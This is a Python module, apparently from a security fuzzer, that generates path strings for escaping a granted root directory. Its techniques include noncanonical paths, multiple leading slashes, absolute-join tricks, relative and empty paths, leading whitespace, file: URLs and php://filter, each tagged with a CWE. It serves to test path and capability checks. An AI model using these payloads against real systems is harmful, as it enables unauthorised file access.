"""Plain places outside the grant, and paths that are no absolute paths at all."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import base, leaf, names
from capfuzz.attacks.techniques.registry import Kind, technique

_ABSENT = "judges nothing, or has a deny-list that this place is not on"
_SESSION = ("session",)


@technique("outside", kind=Kind.PATH, group="outside", cwe="CWE-36", needs=_ABSENT)
def outside(root: str, target: str) -> Iterator[str]:
    """Name the target as it stands: an absolute path without any trick."""
    del root
    yield target


@technique(
    "outside-noncanonical",
    kind=Kind.PATH,
    group="outside",
    cwe="CWE-41",
    needs="compares the text with a deny-list of canonical paths",
)
def outside_noncanonical(root: str, target: str) -> Iterator[str]:
    """Write the target with ``/./``, doubled slashes, a slash at the end, and a detour."""
    del root
    folder, _, name = target.rpartition("/")
    yield f"{folder}/./{name}"
    yield f"{folder}//{name}"
    yield f"{target}/"
    yield f"{target}/."
    yield f"{folder}/nowhere/../{name}"
    yield f"/.{target}"
    yield f"/..{target}"


@technique(
    "outside-many-slashes",
    kind=Kind.PATH,
    group="outside",
    cwe="CWE-50",
    needs="leaves two leading slashes alone, as normpath does, and compares with one",
    refs=("CVE-2021-32804",),
)
def outside_many_slashes(root: str, target: str) -> Iterator[str]:
    """Begin with two, three and four slashes, which lead to the same place (POSIX 4.13)."""
    del root
    for count in (1, 2, 3):
        yield "/" * count + target


@technique(
    "absolute-below-root",
    kind=Kind.PATH,
    group="absolute-join",
    cwe="CWE-36",
    needs="joins the rest to the root with a join that lets an absolute path win",
    refs=("CVE-2024-39330",),
)
def absolute_below_root(root: str, target: str) -> Iterator[str]:
    """Put the absolute target after the root and a slash, so that the rest is absolute."""
    yield f"{base(root)}/{target}"
    yield f"{base(root)}//{target}"


@technique(
    "outside-ancestor",
    kind=Kind.PATH,
    group="outside-ancestor",
    cwe="CWE-183",
    needs="asks whether the root begins with the path, or takes / for no place at all",
)
def outside_ancestor(root: str, target: str) -> Iterator[str]:
    """Name the folders above the root, down from ``/``."""
    del target
    above = names(root)[:-1]
    for count in range(len(above) + 1):
        yield "/" + "/".join(above[:count])
    yield "//"
    yield "/."
    yield "/.."


@technique(
    "relative",
    kind=Kind.PATH,
    group="relative",
    cwe="CWE-23",
    surfaces=_SESSION,
    needs="takes a path that does not begin with a slash for one below the root, or for harmless",
)
def relative(root: str, target: str) -> Iterator[str]:
    """Leave the leading slash out: what it is relative to is nobody's to guess."""
    yield target.lstrip("/")
    yield f"./{target.lstrip('/')}"
    yield f"../{target.lstrip('/')}"
    yield f"{root.strip('/')}/../{target.lstrip('/')}"
    yield f"{root.strip('/')}/data.txt"
    yield leaf(target)


@technique(
    "nothing",
    kind=Kind.PATH,
    group="relative",
    cwe="CWE-20",
    surfaces=_SESSION,
    needs="takes an empty path for the root, or for the working directory",
)
def nothing(root: str, target: str) -> Iterator[str]:
    """Give an empty path, a dot, two dots and a blank."""
    del root, target
    yield from ("", ".", "..", " ", "./", "../")


@technique(
    "blank-before-slash",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-47",
    surfaces=_SESSION,
    needs="trims the path after the check, and takes one without a leading slash for harmless",
)
def blank_before_slash(root: str, target: str) -> Iterator[str]:
    """Put a blank, a tab, a line break or a no-break space before the target."""
    del root
    for blank in (" ", "\t", "\n", "\r\n", "\u00a0", "\ufeff"):
        yield f"{blank}{target}"


@technique(
    "file-scheme",
    kind=Kind.PATH,
    group="scheme",
    cwe="CWE-73",
    needs="opens file: URLs, and takes what does not begin with a slash for relative",
)
def file_scheme(root: str, target: str) -> Iterator[str]:
    """Write the target as a ``file:`` URL (RFC 8089), with and without a host, in odd case."""
    del root
    yield f"file://{target}"
    yield f"file://localhost{target}"
    yield f"FILE://{target}"
    yield f"file:///{target}"


@technique(
    "other-scheme",
    kind=Kind.PATH,
    group="scheme",
    cwe="CWE-73",
    surfaces=_SESSION,
    needs="hands the path to a library that opens more schemes than file:",
)
def other_scheme(root: str, target: str) -> Iterator[str]:
    """Wrap the target in the schemes of other run-times, and in ``file:`` with one slash."""
    del root
    yield f"file:{target}"
    yield f"url:file://{target}"
    yield f"jar:file://{target}!/"
    yield f"netdoc:{target}"
    yield f"php://filter/resource={target}"
    yield f"local_file://{target}"


@technique(
    "scheme-below-root",
    kind=Kind.PATH,
    group="scheme",
    cwe="CWE-73",
    surfaces=_SESSION,
    needs="looks for a scheme in what comes after the root",
)
def scheme_below_root(root: str, target: str) -> Iterator[str]:
    """Put a ``file:`` URL after the root, as though it were a name."""
    yield f"{base(root)}/file://{target}"
    yield f"{base(root)}/file:{target}"
